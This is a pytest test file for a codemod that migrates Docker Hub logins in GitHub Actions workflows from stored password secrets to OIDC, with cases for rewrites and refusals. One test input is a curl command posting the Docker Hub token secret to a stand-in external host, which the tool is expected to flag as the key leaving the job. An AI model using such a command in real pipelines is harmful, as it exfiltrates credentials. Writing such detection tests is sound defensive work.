"""Docker Hub, which is asked for by name."""

from __future__ import annotations

import pytest
from oidc.providers.publishing.kit import carried_out, codes_of, found_in, in_corpus, swap_of
from oidc.providers.registries.jobs import CONFIGURED, PLAIN, workflow

from pinfix_codemods.oidc.providers.services.dockerhub import Dockerhub

HUB = Dockerhub()
PASSWORD = "${{ secrets.DOCKERHUB_TOKEN }}"  # how it is written


def login(
    inputs: str = "username: octo", version: str = "v4", password: str = PASSWORD, more: str = ""
) -> str:
    given = "".join(f"    {line}\n" for line in inputs.splitlines())
    return f"- uses: docker/login-action@{version}\n{more}  with:\n{given}    password: {password}\n"


def codes(steps: str, **given: str) -> set[str]:
    return codes_of(HUB, workflow(steps, **given), CONFIGURED)


def test_it_is_only_reported_where_nobody_asks() -> None:
    finding = found_in(HUB, workflow(login()), PLAIN)
    assert finding is not None
    assert finding.only_reported
    assert [one.code for one in finding.objections] == ["opt-in"]
    outcome = carried_out(HUB, workflow(login(), on="pull_request_target"), PLAIN)
    assert not outcome.plan.rewrites
    assert [one.code for one in outcome.plan.refusals] == ["opt-in"]


@pytest.mark.parametrize(
    "version", ["v3", "v1", "v4.4.0", "74a5d142397b4f367a81961eba4e8cd7edddf772 # v3.4.0"]
)
def test_the_password_goes_and_older_actions_are_raised(version: str) -> None:
    text = carried_out(HUB, workflow(login("username: ${{ secrets.U }}", version)), CONFIGURED).text
    assert "secrets." not in text
    assert f"docker/login-action@{version}\n" not in text
    assert text.endswith(
        "        env:\n          DOCKERHUB_OIDC_CONNECTIONID: ${{ vars.DOCKERHUB_OIDC_CONNECTIONID }}\n"
        "        with:\n          username: ${{ vars.DOCKERHUB_ORGANIZATION }}\n"
    )
    assert "    permissions:\n      contents: read\n      id-token: write\n" in text


@pytest.mark.parametrize("registry", ["docker.io", "index.docker.io", "https://index.docker.io/v1/", "''"])
def test_ways_to_name_it(registry: str) -> None:
    swap = swap_of(HUB, workflow(login(f"registry: {registry}\nusername: a")), CONFIGURED)
    assert not swap.raises


def test_a_login_without_a_user_gets_one() -> None:
    text = carried_out(HUB, workflow(login("logout: false")), CONFIGURED).text
    assert "          username: ${{ vars.DOCKERHUB_ORGANIZATION }}\n" in text


def test_a_variable_that_it_came_by_goes() -> None:
    steps = login(password="${{ env.PASSWORD }}")  # how it is written
    text = carried_out(HUB, workflow(steps, outer=f"PASSWORD: {PASSWORD}"), CONFIGURED).text
    assert "PASSWORD: " not in text
    assert "secrets." not in text


def test_other_entries_of_env_stay() -> None:
    text = carried_out(HUB, workflow(login(more="  env:\n    A: b\n")), CONFIGURED).text
    assert "          A: b\n          DOCKERHUB_OIDC_CONNECTIONID: " in text


@pytest.mark.parametrize(
    ("steps", "given", "expected"),
    [
        (login() + f"- run: docker login -u a -p {PASSWORD}\n", {}, "unknown-consumer"),
        (login() + f"- run: curl -d {PASSWORD} https://e.example\n", {}, "key-leaves-job"),
        (
            login() + f"- uses: peter-evans/dockerhub-description@v4\n  with:\n    password: {PASSWORD}\n",
            {},
            "unknown-consumer",
        ),
        (login() + login(password="${{ secrets.OTHER }}"), {}, "several-pairs"),
        (login(password="${{ secrets.A || secrets.B }}"), {}, "dynamic-key"),
        (login() + f"- run: ./x\n  env:\n    P: {PASSWORD}\n", {}, "unknown-consumer"),
        (login(password="${{ env.P }}") + "- run: ./x\n", {"env": f"P: {PASSWORD}"}, "script"),
        (
            login("username: ${{ secrets.U }}", more="  if: env.U != ''\n  env:\n    U: ${{ secrets.U }}\n"),
            {},
            "condition",
        ),
    ],
)
def test_reasons(steps: str, given: dict[str, str], expected: str) -> None:
    assert expected in codes(steps, **given)


@pytest.mark.parametrize(
    "steps",
    [
        login("registry: ghcr.io"),
        login("registry: docker.io.example"),
        login("registry: ${{ secrets.HOST }}"),
        login("registry: quay.io"),
        login(password="${{ secrets.GITHUB_TOKEN }}"),
        login(password="${{ steps.a.outputs.token }}"),
    ],
)
def test_what_is_no_stored_password_of_it(steps: str) -> None:
    assert found_in(HUB, workflow(steps), CONFIGURED) is None


def test_real_workflows() -> None:
    path = "hashicorp__terraform-cdk/.github/workflows/docker.yml"
    assert in_corpus(HUB, path, "build-docker-image") == {"opt-in"}
